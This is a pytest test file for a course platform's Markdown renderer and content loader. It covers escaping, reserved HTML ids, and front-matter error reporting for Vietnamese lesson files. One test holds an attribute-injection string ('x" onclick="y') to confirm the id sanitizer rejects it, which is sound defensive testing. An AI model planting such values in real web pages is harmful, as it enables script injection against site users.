    html = render_markdown('```{.python .flash}\nx\n```\n\n<code class="language-py button">y</code>\n\n'
                           '<p class="flash">z</p>\n').html
    assert "flash" not in html and "button" not in html
    assert 'class="language-py"' in html and 'class="language-python"' in html
    assert 'class=""' not in html


def test_toc_labels_are_escaped_once():
    toc = render_markdown("## a < b & c\n\n## `<x>`\n").toc_html
    assert ">a &lt; b &amp; c</a>" in toc and ">&lt;x&gt;</a>" in toc
    assert "&amp;lt;" not in toc


def _template_ids() -> set[str]:
    ids = set()
    for path in (ROOT / "learnhub" / "templates").rglob("*.html"):
        for value in re.findall(r'\b(?:id|for)="([^"]+)"', path.read_text(encoding="utf-8")):
            value = value.replace("{{ name }}", "q7")
            ids.add(re.sub(r"\{\{.*?\}\}", "7", value))
    for path in (ROOT / "learnhub").rglob("forms.py"):
        ids |= set(re.findall(r"^\s*(\w+)\s*=\s*\w*Field\(", path.read_text(encoding="utf-8"), re.M))
    return ids


def test_every_id_the_app_uses_is_reserved():
    """A new id in a template or form must be added to content._RESERVED_IDS."""
    ids = _template_ids()
    assert {"submit-attempt", "timer", "attempt-form", "username", "q7-input"} <= ids
    clashes = sorted(i for i in ids if safe_id(i) == i)
    assert clashes == []
    assert safe_id("khai-niem") == "khai-niem" and safe_id("fn:1") == "fn:1"
    assert safe_id("Submit-Attempt") == "Submit-Attempt-muc"
    assert safe_id('x" onclick="y') is None and safe_id("") is None


def _write(root: Path, rel: str, text: str | bytes) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))


def _course(root: Path, slug="khoa", lessons=None):
    _write(root, f"{slug}/course.md", "---\ntitle: Khóa\norder: 1\n---\nTổng quan\n")
    for name, body in (lessons or {"01-mot.md": "---\ntitle: Một\norder: 1\n---\nBài một\n"}).items():
        _write(root, f"{slug}/{name}", body)


def test_loader_reads_courses_lessons_and_pages(tmp_path):
    root = tmp_path / "courses"
    _course(root, lessons={"02-hai.md": "---\ntitle: Hai\norder: 2\n---\nHai\n",
                           "01-mot.md": "\ufeff---\r\ntitle: Một\r\norder: 1\r\n---\r\nMột\r\n"})
    _write(root, "glossary.md", "---\ntitle: Thuật ngữ\n---\n| a | b |\n")
    courses, pages = load_tree(root)
    assert [c.slug for c in courses] == ["khoa"]
    assert [(l.slug, l.title) for l in courses[0].lessons] == [("mot", "Một"), ("hai", "Hai")]
    assert pages[0].slug == "glossary" and pages[0].title == "Thuật ngữ"


@pytest.mark.parametrize("body, line, message", [
    ("---\ntitle: [unclosed\norder: 1\n---\nx\n", 2, "bad front matter"),
    ("---\norder: 1\n---\nx\n", 1, "missing title"),
    ("---\ntitle: \"\"\norder: 1\n---\nx\n", 2, "missing title"),
    ("no front matter\n", 1, "missing front matter"),
    ("---\ntitle: x\norder: one\n---\nx\n", 3, "order must be"),
    ("---\ntitle: x\n", 1, "not closed"),
])
def test_loader_reports_file_and_line(tmp_path, body, line, message):
    root = tmp_path / "courses"
    _course(root, lessons={"01-mot.md": body})
    with pytest.raises(ContentError) as exc:
        load_tree(root)
    problem = exc.value.problems[0]
    assert problem.file == "courses/khoa/01-mot.md"
    assert problem.line == line
    assert message in problem.message
    assert str(problem).startswith(f"courses/khoa/01-mot.md:{line}: ")


def test_loader_reports_non_utf8_with_line(tmp_path):
    root = tmp_path / "courses"
    _course(root, lessons={"01-mot.md": "---\ntitle: x\n---\ndòng ba\n".encode("utf-8") + "sai m\u00e0\n".encode("cp1258")})
    with pytest.raises(ContentError) as exc:
        load_tree(root)
    assert exc.value.problems[0].line == 5
    assert "UTF-8" in exc.value.problems[0].message


def test_loader_collects_every_problem(tmp_path):
    root = tmp_path / "courses"
    _course(root, lessons={"01-mot.md": "---\norder: 1\n---\n", "02-hai.md": "x"})
    _course(root, slug="khac", lessons={"01-ba.md": "---\ntitle: [\n---\n"})
    with pytest.raises(ContentError) as exc:
        load_tree(root)
    files = {p.file for p in exc.value.problems}
    assert files == {"courses/khoa/01-mot.md", "courses/khoa/02-hai.md", "courses/khac/01-ba.md"}


def test_duplicate_lesson_slug_is_an_error(tmp_path):
    root = tmp_path / "courses"
    _course(root, lessons={"01-mot.md": "---\ntitle: a\n---\n", "02-mot.md": "---\ntitle: b\n---\n"})
    with pytest.raises(ContentError, match="also used by"):
        load_tree(root)
